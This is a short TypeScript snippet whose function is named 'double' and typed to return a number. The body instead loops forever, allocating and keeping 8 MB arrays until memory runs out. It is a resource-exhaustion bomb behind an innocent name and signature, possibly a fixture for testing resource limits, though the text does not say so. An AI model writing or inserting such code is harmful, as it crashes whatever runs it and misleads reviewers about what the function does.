function double(n: number): number {
  const kept: Float64Array[] = [];
  for (;;) kept.push(new Float64Array(1 << 20).fill(n));
}
